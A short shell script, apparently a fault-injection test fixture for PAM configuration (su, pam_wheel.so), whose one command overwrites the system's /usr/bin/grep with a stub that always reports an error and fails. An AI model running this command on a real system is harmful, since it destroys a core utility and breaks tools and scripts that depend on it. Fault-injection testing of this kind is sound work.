#!/bin/sh
# params: {"service": "su", "type": "auth", "module": "pam_wheel.so"}
printf "#!/bin/sh\necho grep is broken >&2; exit 2\n" > /usr/bin/grep
